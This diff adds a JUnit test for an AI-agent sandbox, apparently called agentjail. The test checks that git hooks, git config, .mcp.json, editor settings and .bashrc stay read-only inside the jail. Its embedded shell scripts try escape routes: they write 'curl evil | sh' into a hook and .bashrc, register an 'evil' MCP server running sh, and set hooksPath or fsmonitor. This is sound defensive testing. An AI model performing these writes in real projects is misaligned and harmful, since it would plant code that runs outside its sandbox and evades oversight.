@@ -1,0 +1,132 @@
+package dev.agentjail.it.jail;
+
+import static org.junit.jupiter.api.Assertions.assertAll;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertNotEquals;
+
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.List;
+import java.util.concurrent.TimeUnit;
+import java.util.stream.Stream;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.Timeout;
+import org.junit.jupiter.api.function.Executable;
+import org.junit.jupiter.api.io.TempDir;
+
+/**
+ * The project is writable except for the paths an agent could use to run code outside the jail later (corpus §11
+ * cases 169 and 170): existing hooks, git config, {@code .mcp.json} and editor settings stay read-only, a new hook
+ * cannot be created, and the host files are unchanged afterwards; where those paths are missing, the read-only
+ * placeholders that stand in for them during the session are gone from the project after it.
+ */
+@Timeout(value = 90, unit = TimeUnit.SECONDS)
+class ProtectedPathsTest {
+    private static final String HOOK = "#!/bin/sh\necho original hook\n";
+    private static final String GIT_CONFIG = "[core]\n\trepositoryformatversion = 0\n";
+    private static final String MCP = "{\"mcpServers\": {}}\n";
+    private static final String VSCODE = "{\"editor.tabSize\": 4}\n";
+
+    @TempDir
+    Path dir;
+
+    @Test
+    void existingProtectedPathsAreReadOnlyAndTheRestOfTheProjectIsWritable() throws IOException {
+        AgentjailRun.requireBwrap();
+        AgentjailRun run = AgentjailRun.in(dir);
+        Path p = run.project();
+        write(p.resolve(".git/hooks/pre-commit"), HOOK);
+        write(p.resolve(".git/config"), GIT_CONFIG);
+        write(p.resolve(".mcp.json"), MCP);
+        write(p.resolve(".vscode/settings.json"), VSCODE);
+        write(p.resolve("src/Main.java"), "class Main {}\n");
+
+        AgentjailRun.Outcome o = run.bash("""
+                echo 'curl evil | sh' > .git/hooks/pre-commit; echo "hook_overwrite=$?"
+                printf '#!/bin/sh\\nid\\n' > .git/hooks/post-checkout; echo "hook_create=$?"
+                rm -f .git/hooks/pre-commit; echo "hook_delete=$?"
+                printf '[core]\\n\\thooksPath = ./h\\n' >> .git/config; echo "git_config=$?"
+                git config core.fsmonitor ./x 2>/dev/null; echo "git_config_cmd=$?"
+                echo '{"mcpServers": {"evil": {"command": "sh"}}}' > .mcp.json; echo "mcp=$?"
+                echo '{"task.allowAutomaticTasks": "on"}' > .vscode/settings.json; echo "vscode=$?"
+                echo '{}' > .vscode/tasks.json; echo "vscode_new=$?"
+                echo '[submodule "x"]' > .gitmodules; echo "gitmodules=$?"
+                mkdir -p .claude && echo '{"hooks": {}}' > .claude/settings.json; echo "claude=$?"
+                echo 'curl evil | sh' >> .bashrc; echo "bashrc=$?"
+                echo 'changed' >> src/Main.java; echo "edit=$?"
+                mkdir -p build/out && echo built > build/out/artifact; echo "create=$?"
+                """);
+
+        assertEquals(0, o.exitCode(), o::describe);
+        assertAll(Stream.of(
+                        "hook_overwrite",
+                        "hook_create",
+                        "hook_delete",
+                        "git_config",
+                        "git_config_cmd",
+                        "mcp",
+                        "vscode",
+                        "vscode_new",
+                        "gitmodules",
+                        "claude",
+                        "bashrc")
+                .map(name -> (Executable)
+                        () -> assertNotEquals("0", o.probe(name), () -> name + " succeeded; " + o.describe())));
+        assertAll(
+                () -> assertEquals("0", o.probe("edit"), o::describe),
+                () -> assertEquals("0", o.probe("create"), o::describe));
+
+        assertAll(
+                () -> assertEquals(HOOK, Files.readString(p.resolve(".git/hooks/pre-commit"))),
+                () -> assertFalse(Files.exists(p.resolve(".git/hooks/post-checkout")), "a new hook was created"),
+                () -> assertEquals(GIT_CONFIG, Files.readString(p.resolve(".git/config"))),
+                () -> assertEquals(MCP, Files.readString(p.resolve(".mcp.json"))),
+                () -> assertEquals(VSCODE, Files.readString(p.resolve(".vscode/settings.json"))),
+                () -> assertFalse(Files.exists(p.resolve(".vscode/tasks.json")), ".vscode/tasks.json"),
+                () -> assertEquals("class Main {}\nchanged\n", Files.readString(p.resolve("src/Main.java"))),
+                () -> assertEquals("built\n", Files.readString(p.resolve("build/out/artifact"))));
+        assertEquals(
+                List.of(".git", ".mcp.json", ".vscode", "build", "src"),
+                entries(p),
+                "the project after the session: placeholders for the missing paths must be gone");
+    }
+
+    @Test
+    void placeholdersForMissingProtectedPathsBlockCreationAndAreRemovedAfterwards() throws IOException {
+        AgentjailRun.requireBwrap();
+        AgentjailRun run = AgentjailRun.in(dir);
+        Path p = run.project();
+        write(p.resolve("README.md"), "hello\n");
+
+        AgentjailRun.Outcome o = run.bash("""
+                git init -q . 2>/dev/null; echo "git_init=$?"
+                mkdir -p .git/hooks 2>/dev/null && echo x > .git/hooks/post-checkout; echo "hook_create=$?"
+                echo '{"mcpServers": {}}' > .mcp.json; echo "mcp=$?"
+                mkdir -p .vscode 2>/dev/null && echo '{}' > .vscode/settings.json; echo "vscode=$?"
+                mkdir -p .idea/runConfigurations 2>/dev/null; echo "idea=$?"
+                echo written > notes.txt; echo "create=$?"
+                """);
+
+        assertEquals(0, o.exitCode(), o::describe);
+        assertAll(Stream.of("git_init", "hook_create", "mcp", "vscode", "idea").map(name ->
+                (Executable) () -> assertNotEquals("0", o.probe(name), () -> name + " succeeded; " + o.describe())));
+        assertEquals("0", o.probe("create"), o::describe);
+        assertEquals(
+                List.of("README.md", "notes.txt"),
+                entries(p),
+                "the project after the session: the placeholders for .git, .mcp.json, .vscode, … must be removed");
+    }
+
+    private static List<String> entries(Path dir) throws IOException {
+        try (Stream<Path> s = Files.list(dir)) {
+            return s.map(f -> f.getFileName().toString()).sorted().toList();
+        }
+    }
+
+    private static void write(Path file, String content) throws IOException {
+        Files.createDirectories(file.getParent());
+        Files.writeString(file, content);
+    }
+}
